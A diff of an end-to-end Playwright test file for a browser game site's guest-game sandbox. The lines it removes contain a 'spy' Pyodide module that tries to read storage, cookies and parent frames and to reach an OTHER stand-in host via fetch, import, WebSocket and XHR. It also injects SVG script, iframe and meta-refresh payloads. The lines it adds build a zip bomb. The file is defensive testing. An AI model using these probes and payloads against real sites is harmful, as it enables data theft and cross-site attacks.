@@ -2,16 +2,16 @@
 
 import json
 import shutil
-import threading
+import struct
 from collections.abc import Iterator
-from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import cast
+from zipfile import ZIP_DEFLATED, ZipFile
 
 import pytest
 from playwright.sync_api import BrowserContext, Page, Playwright, expect
 
+from e2e import hostile
 from e2e.own_browser import LOOK, NO_COPY
 from e2e.table import Table, comes_to
 from e2e.test_axe import in_every_look
@@ -47,84 +47,6 @@ KEPT = """async () => {
 OVERHEAR = """addEventListener('message', ({ data }) => {
   if (data?.type === 'guest:brought') window.handed = data.brought.link;
 });"""
-
-# What a hostile game tries as soon as it is imported, and what it puts into its drawings.
-SPY = """
-import js
-from pyodide.ffi import create_proxy, to_js
-from pyodide.code import run_js
-from pygames import svg
-
-TOLD = {}
-PROXIES = []
-
-
-def attempt(name, action):
-    try:
-        found = action()
-    except BaseException as trouble:
-        TOLD[name] = "kept out"
-        return
-    if not hasattr(found, "then"):
-        TOLD[name] = "reached"
-        return
-    TOLD[name] = "waiting"
-    told = [create_proxy(lambda *_, word=word: TOLD.__setitem__(name, word)) for word in ("reached", "kept out")]
-    PROXIES.extend(told)
-    found.then(*told)
-
-
-def object(**fields):
-    return to_js(fields, dict_converter=js.Object.fromEntries)
-
-
-cookies = object(credentials="include")
-blindly = object(mode="no-cors")
-socket = "new WebSocket('OTHER/socket'.replace('http', 'ws'))"
-attempt("indexedDB", lambda: js.indexedDB.open("pygames").result)
-attempt("databases", lambda: js.indexedDB.databases())
-attempt("caches", lambda: js.caches.keys())
-attempt("localStorage", lambda: js.localStorage.setItem("spy", "1"))
-attempt("document", lambda: js.document.title)
-attempt("parent", lambda: js.parent.document.title)
-attempt("top", lambda: js.top.location.href)
-attempt("files", lambda: js.navigator.storage.getDirectory())
-attempt("site with cookies", lambda: js.fetch("SITE/index.html", cookies))
-attempt("elsewhere", lambda: js.fetch("OTHER/fetched"))
-attempt("elsewhere, blind", lambda: js.fetch("OTHER/blind", blindly))
-attempt("import", lambda: run_js("import('OTHER/imported.js')"))
-attempt("socket", lambda: run_js(f"new Promise((yes, no) => Object.assign({socket}, {{onopen: yes, onerror: no}}))"))
-
-
-def request():
-    asked = js.XMLHttpRequest.new()
-    asked.open("GET", "OTHER/requested", False)
-    asked.send()
-
-
-attempt("request", request)
-js.postMessage(object(type="guest:told", told=object(game="x", title="<b>spy</b>", link="", where="")))
-js.postMessage(object(id="1", type="RAW"))
-
-EVIL = (
-    "<script>parent.postMessage('ran', '*')</script><image href='OTHER/image.png' onerror='parent.postMessage(1)'/>"
-    "<foreignObject><img src='OTHER/img.png'/><iframe src='OTHER/frame'></iframe>"
-    "<a id='lure' href='OTHER/clicked'>x</a>"
-    "<link rel='stylesheet' href='OTHER/style.css'/>"
-    "<link rel='preconnect' href='OTHER'/><form action='OTHER/form'><button id='trap'>x</button></form>"
-    "</foreignObject></svg>"
-)
-AWAY = "<meta http-equiv='refresh' content='0;url=OTHER/away'/>"
-drawing = svg.drawing
-
-
-def drawn(scene):
-    over = AWAY if "for seat" in scene.title else ""
-    return drawing(scene).removesuffix("</svg>") + EVIL.replace("</foreignObject>", over + "</foreignObject>")
-
-
-svg.drawing = drawn
-"""
 
 
 @pytest.fixture
@@ -185,6 +107,7 @@ def test_a_dropped_wheel_is_asked_about_and_then_plays_like_the_five(
 
     table = let_in(page, site)
     expect(table.page.locator("#game")).to_have_text("Null Game")
+    assert in_every_look(page) == []
     say_nothing(table, 1)
     table.page.evaluate("window.table.play('-')")  # as it is typed
     expect(table.page.locator("[data-board][data-over]")).to_have_count(1)
@@ -227,73 +150,94 @@ def test_a_dropped_wheel_is_asked_about_and_then_plays_like_the_five(
     assert links[-1].endswith(f"#{frame.evaluate('window.handed')}"), "not as it stood in this browser"
 
 
-@contextmanager
-def listening() -> Iterator[tuple[str, list[str]]]:
-    """A server somewhere else that hears everything; gives its address and the paths that were asked of it."""
-    heard: list[str] = []
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # whatever else is asked is heard too, as an error
-            heard.append(self.path)
-            self.send_response(200)
-            self.send_header("Access-Control-Allow-Origin", "*")
-            self.send_header("Content-Type", "text/javascript")
-            self.send_header("Content-Length", "0")
-            self.end_headers()
-
-        def send_error(self, *args: object, **more: object) -> None:
-            heard.append(self.requestline)
-            super().send_error(501)
-
-        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the library's name for it
-            pass
-
-    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-        yield f"http://127.0.0.1:{server.server_port}", heard
-        server.shutdown()
-
-
-def hostile(folder: Path, site: str, other: str) -> Path:
-    """The null game, and in its sentences what a spy beside it has reached."""
-    source = {path.name: path.read_text(encoding="utf-8") for path in wheels.NULL_GAME.glob("*.py")}
-    source["words.py"] = source["words.py"].replace('return "Say nothing."', "return json.dumps(spy.TOLD)")
-    source["words.py"] += "\nimport json\nfrom . import spy\n"
-    source["rules.py"] = source["rules.py"].replace('id = "null-game"', 'id = "hostile"')
-    source["spy.py"] = SPY.replace("SITE", site).replace("OTHER", other)
-    modules = {f"hostile/{name}": text for name, text in source.items()}
-    return wheels.written(folder, "hostile", {"hostile": "hostile.rules:GAME"}, modules)
-
-
 def test_a_hostile_wheel_reaches_nothing(visitor: BrowserContext, site: str, tmp_path: Path) -> None:
-    with listening() as (other, heard):
+    with hostile.listening() as other:
         page = visitor.new_page()
         own = Table(page, site)
         own.open("granicus", seed="mine")
         say_nothing(own, 1)  # any choice will do
-        page.evaluate("localStorage.setItem('mine', '1'); document.cookie = 'mine=1'")
+        page.evaluate("localStorage.setItem('mine', '1'); document.cookie = 'mine=1'; caches.open('mine')")
         page.goto(f"{site}/guest.html")
         until(page, lambda: any("granicus" in text for text in page.evaluate(KEPT)), "the game among the saves")
         before = page.evaluate(KEPT)
 
-        page.locator("#file").set_input_files(hostile(tmp_path, site, other))
+        page.locator("#file").set_input_files(hostile.wheel(tmp_path, site, other))
         table = let_in(page, site)
         until_still(page)
         say_nothing(table, 1)  # what it has found out by now is in its next question
         words = table.page.locator("[data-status]").inner_text()
         told = json.loads(words[words.index("{") :])
-        assert len(told) >= 14
+        assert len(told) == hostile.ATTEMPTS
         assert {name: word for name, word in told.items() if word == "reached"} == {}, "the wall has a hole"
 
+        assert table.page.evaluate("Object.getOwnPropertyNames(window).filter((name) => name.includes('RTC'))") == []
+        lures = "foreignObject, image, a, link, meta, form, iframe, script, style"
+        assert table.page.locator("[data-board]").locator(lures).count() == 0, "it draws shapes alone"
         table.page.evaluate("document.querySelectorAll('#lure, #trap').forEach((lure) => lure.click())")
         until_still(page)
         if page.frames[-1].locator("[data-legal]").count():
             page.frames[-1].locator("[data-legal]").first.click()  # the end, at which it leads its frame away
         until_still(page)
-        assert heard == [], "something went out"
+        assert other.heard == [], "something went out"
         assert page.evaluate(KEPT) == before, "something was changed"
         assert page.url == f"{site}/guest.html"
         assert page.locator("#title").inner_text() == "Null Game", "only its own name, and as text"
+
+
+def test_a_game_that_ends_its_worker_never_comes_to_the_page(
+    visitor: BrowserContext, site: str, tmp_path: Path
+) -> None:
+    with hostile.listening() as other:
+        page = visitor.new_page()
+        page.goto(f"{site}/guest.html")
+        page.locator("#file").set_input_files(hostile.wheel(tmp_path, site, other, hostile.RUNAWAY))
+        page.locator("#yes").click()
+        inside = page.frame_locator("iframe")
+        for _ in range(3):
+            notice = inside.locator("#notice")
+            expect(notice).to_contain_text("The game cannot start", timeout=BOOT)
+            notice.get_by_role("button", name="Try again").click()
+            expect(notice).to_be_hidden()
+        expect(inside.locator("#notice")).to_contain_text("The game cannot start", timeout=BOOT)
+        until_still(page)
+        expect(inside.locator("html")).not_to_have_attribute("data-runaway", "here")
+        assert other.heard == [], "something went out"
+        expect(page.locator("#title")).to_have_text("hostile 1.0")
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(page: Page, site: str, tmp_path: Path) -> None:
+    bomb = tmp_path / "bomb-1.0-py3-none-any.whl"
+    with ZipFile(bomb, "w", ZIP_DEFLATED) as archive:
+        archive.writestr("bomb.py", bytes(60_000_000))
+    page.goto(f"{site}/guest.html")
+    page.locator("#file").set_input_files(bomb)
+    page.locator("#yes").click()
+    expect(page.locator("#trouble")).to_have_text(f"“{bomb.name}” unpacks to more than 50 MB: too large for a game.")
+    told = struct.pack("<I", 60_000_000)
+    assert bomb.read_bytes().count(told) == 2, "beside the part and in the directory"
+    bomb.write_bytes(bomb.read_bytes().replace(told, struct.pack("<I", 10)))
+    page.locator("#file").set_input_files(bomb)
+    page.locator("#yes").click()
+    expect(page.locator("#trouble")).to_contain_text("is damaged, or packed in a way that is not read here.")
+    assert page.locator("iframe").count() == 0
+
+
+def test_a_guest_is_told_of_and_deleted_with_everything_else(page: Page, site: str, null_game: Path) -> None:
+    page.goto(f"{site}/guest.html")
+    page.locator("#file").set_input_files(null_game)
+    let_in(page, site)
+    page.goto(f"{site}/browser.html")
+    expect(page.locator("#guests")).to_contain_text("1 game that someone else wrote is kept")
+    expect(page.locator("#guests-list")).to_contain_text(null_game.name)
+    assert in_every_look(page) == []
+    page.locator("#delete").click()
+    page.locator("#ask-yes").click()
+    page.locator("#ask-yes").click()
+    expect(page.locator("#deleted")).to_contain_text("Everything is deleted.")
+    page.goto(f"{site}/guest.html")
+    expect(page.locator("#bring")).to_be_visible()
+    until_still(page)
+    expect(page.locator("#known")).to_be_hidden()
 
 
 def test_a_table_for_guests_stands_behind_a_wall_or_not_at_all(page: Page, site: str, null_game: Path) -> None:
